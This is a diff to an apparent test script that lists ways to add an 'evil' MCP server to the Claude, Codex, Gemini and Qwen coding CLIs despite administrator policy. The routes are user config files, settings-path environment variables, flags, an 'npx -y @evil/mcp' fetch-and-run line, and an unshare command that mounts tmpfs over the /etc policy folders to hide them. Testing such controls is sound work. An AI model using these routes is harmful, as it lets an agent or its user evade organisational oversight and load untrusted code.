@@ -25,7 +25,9 @@ CLAUDE = "env ANTHROPIC_API_KEY=none ANTHROPIC_BASE_URL=http://127.0.0.1:9"
 GEMINI = "env GEMINI_API_KEY=none GOOGLE_GEMINI_BASE_URL=http://127.0.0.1:9"
 QWEN = "env OPENAI_API_KEY=none OPENAI_MODEL=none OPENAI_BASE_URL=http://127.0.0.1:9/v1"
 CODEX_ENTRY = f"[mcp_servers.evil]\ncommand = {json.dumps(EVIL[0])}\nargs = {json.dumps(EVIL[1:])}\n"
-HIDDEN = "unshare --user --map-root-user --mount bash -c 'mount -t tmpfs none {folder} && exec \"$@\"' x"
+# as root of a name space of his own he mounts, and is himself again for the client, which does not start as root
+HIDDEN = ("unshare --user --map-root-user --mount bash -c 'if [ -d {folder} ]; then mount -t tmpfs none {folder}; fi && "
+          f"exec unshare --user --map-user={USER} --map-group={USER} \"$@\"' x")
 
 
 def google(folder, auth, **more):
@@ -45,12 +47,12 @@ WAYS = [
         CLAUDE + " {} --settings @HOME@/s.json -p hello"),
     ("claude", "-p in a fresh clone", {"clone/.mcp.json": SERVERS}, "cd @HOME@/clone; " + CLAUDE + " {} -p hello"),
     ("claude", "a user name space that hides the folder", {".claude.json": SERVERS},
-     HIDDEN.format(folder="/etc/claude-code") + " " + CLAUDE + " {} -p hello"),
+     HIDDEN.replace("{folder}", "/etc/claude-code") + " " + CLAUDE + " {} -p hello"),
     ("codex", "an entry in the user's own file", {".codex/config.toml": CODEX_ENTRY}, "{} mcp list"),
     ("codex", "CODEX_HOME", {"x/config.toml": CODEX_ENTRY}, "env CODEX_HOME=@HOME@/x {} mcp list"),
     ("codex", "-c mcp_servers", {}, "{} -c 'mcp_servers.evil.command=\"npx\"' -c 'mcp_servers.evil.args=[\"-y\",\"@evil/mcp\"]' mcp list"),
     ("codex", "a user name space that hides the folder", {".codex/config.toml": CODEX_ENTRY},
-     HIDDEN.format(folder="/etc/codex") + " {} mcp list"),
+     HIDDEN.replace("{folder}", "/etc/codex") + " {} mcp list"),
     ("gemini", "an entry in the user's own file", google("gemini", "gemini-api-key"), GEMINI + " {} -p hello"),
     ("gemini", "a list of names in the user's own file", google("gemini", "gemini-api-key", mcp={"allowed": ["evil"]}),
      GEMINI + " {} -p hello"),
@@ -59,7 +61,7 @@ WAYS = [
     ("gemini", "GEMINI_CLI_SYSTEM_SETTINGS_PATH", google("gemini", "gemini-api-key"),
      GEMINI + " GEMINI_CLI_SYSTEM_SETTINGS_PATH=/nowhere {} -p hello"),
     ("gemini", "a user name space that hides the folder", google("gemini", "gemini-api-key"),
-     HIDDEN.format(folder="/etc/gemini-cli") + " " + GEMINI + " {} -p hello"),
+     HIDDEN.replace("{folder}", "/etc/gemini-cli") + " " + GEMINI + " {} -p hello"),
     ("qwen", "an entry in the user's own file", google("qwen", "openai"), QWEN + " {} -p hello"),
     ("qwen", "--allowed-mcp-server-names", google("qwen", "openai"), QWEN + " {} --allowed-mcp-server-names evil -p hello"),
     ("qwen", "QWEN_CODE_SYSTEM_SETTINGS_PATH", google("qwen", "openai"),
